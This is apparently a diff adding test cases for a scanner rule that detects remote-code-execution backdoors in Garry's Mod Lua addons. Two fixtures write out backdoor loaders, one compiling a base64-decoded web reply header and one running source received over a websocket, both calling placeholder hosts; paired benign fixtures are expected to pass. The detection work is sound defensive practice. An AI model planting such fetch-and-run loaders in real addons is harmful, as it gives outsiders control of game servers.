@@ -598,4 +598,70 @@ describe('runstring', () => {
     });
     expect(worst(findings)).toBeLessThan(RANK.high);
   });
+  it('a header of a web reply, decoded and compiled', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_cache.lua': [
+        'HTTP({',
+        ' url = "https://cdn.example.invalid/theme/index.html", method = "HEAD",',
+        ' success = function(code, _, headers)',
+        '  local meta = headers["X-Meta"]',
+        '  if meta then local fn = CompileString(util.Base64Decode(meta), "migrate", false) if fn then fn() end end',
+        ' end,',
+        '})',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a header of a web reply kept as a version tag', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_cache.lua': [
+        'HTTP({',
+        ' url = "https://cdn.example.invalid/theme/index.html", method = "HEAD",',
+        ' success = function(code, _, headers)',
+        '  file.Write("theme_etag.txt", headers["ETag"] or "0")',
+        '  MsgN("theme revision ", headers["ETag"] or "?")',
+        ' end,',
+        '})',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
+  it("a websocket's messages dispatched to a registered handler that runs them", () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_link.lua': [
+        'local socket',
+        'local handlers = {}',
+        'function Link_On(op, fn) handlers[op] = fn end',
+        'Link_On("patch", function(d) RunStringEx(d.src, "patch") end)',
+        'local function connect()',
+        ' socket = GWSockets.createWebSocket("wss://gateway.example.invalid/link")',
+        ' function socket:onMessage(txt)',
+        '  local msg = util.JSONToTable(txt)',
+        '  if msg and handlers[msg.op] then handlers[msg.op](msg.d or {}) end',
+        ' end',
+        ' socket:open()',
+        'end',
+        'hook.Add("InitPostEntity", "link", connect)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it("a websocket's messages only shown in the chat", () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_link.lua': [
+        'local socket',
+        'local function connect()',
+        ' socket = GWSockets.createWebSocket("wss://gateway.example.invalid/link")',
+        ' function socket:onMessage(txt)',
+        '  local msg = util.JSONToTable(txt)',
+        '  if msg and msg.text then PrintMessage(HUD_PRINTTALK, "[Discord] " .. msg.text) end',
+        ' end',
+        ' socket:open()',
+        'end',
+        'hook.Add("InitPostEntity", "link", connect)',
+        'concommand.Add("link_reload", function(ply) if IsValid(ply) and not ply:IsSuperAdmin() then return end RunString("print(1)") end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeLessThan(RANK.high);
+  });
 });
